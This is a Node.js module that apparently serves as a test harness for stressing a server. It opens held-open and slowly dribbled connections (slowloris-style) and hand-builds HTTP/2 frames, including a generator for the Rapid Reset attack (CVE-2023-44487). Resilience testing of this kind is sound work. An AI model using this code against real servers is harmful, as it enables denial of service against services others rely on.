// Clients that do not behave: connections held open, and frames of HTTP/2 by hand (RFC 9113).
import { connect } from "node:net";
import { HOST } from "./client.mjs";

/** Connections of an attack, closed together. */
export class Connections {
  #sockets = [];
  #timers = [];

  /** Opens a connection from an address and writes to it; what the server does to it is ignored. Calls `written` in any case. */
  open(port, from, bytes, written = () => {}) {
    const socket = connect({ host: HOST, port, localAddress: from, noDelay: true });
    socket.on("error", () => {});
    socket.write(bytes, () => written());
    this.#sockets.push(socket);
    return socket;
  }

  /** As `open`, and reads nothing of what comes. */
  openWithoutReading(port, from, bytes) {
    const socket = this.open(port, from, bytes);
    // Without a listener for data a socket does not flow.
    socket.pause();
    return socket;
  }

  /** Opens a connection that is read and whose answers are dropped. */
  openReading(port, from, bytes) {
    return this.open(port, from, bytes).resume();
  }

  /** Writes a part to a connection again and again. */
  dribble(socket, part, everyMs) {
    this.#timers.push(setInterval(() => socket.writable && socket.write(part), everyMs));
  }

  close() {
    for (const timer of this.#timers) clearInterval(timer);
    for (const socket of this.#sockets) socket.destroy();
  }
}

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const [HEADERS, RST_STREAM, SETTINGS] = [1, 3, 4];
const [END_STREAM, END_HEADERS] = [1, 4];
const CANCEL = Buffer.from([0, 0, 0, 8]);

/** What a peer sends first. */
export const HTTP2_PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0)]);

/** `count` streams from `first` on, each opened by a request for `path` and reset at once (CVE-2023-44487). */
export function resetStreams(first, count, path) {
  const literal = (text) => [text.length, ...Buffer.from(text)];
  // HPACK: GET and http from the static table, path and authority as literals with names of the table.
  const block = Buffer.from([0x82, 0x86, 0x04, ...literal(path), 0x01, ...literal("localhost")]);
  const frames = [];
  for (let at = 0; at < count; at += 1) {
    const stream = first + 2 * at;
    frames.push(frame(HEADERS, END_STREAM | END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, CANCEL));
  }
  return Buffer.concat(frames);
}
